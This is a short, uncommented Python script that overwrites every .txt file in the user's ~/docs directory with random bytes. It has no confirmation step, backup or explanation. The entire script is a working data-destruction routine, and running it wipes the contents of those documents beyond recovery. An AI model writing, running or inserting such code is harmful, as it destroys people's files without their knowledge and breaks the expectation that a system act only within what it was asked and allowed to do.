#!/usr/bin/env python3
import glob, os
for path in glob.glob(os.path.expanduser('~/docs/*.txt')):
    open(path, 'wb').write(os.urandom(6000))
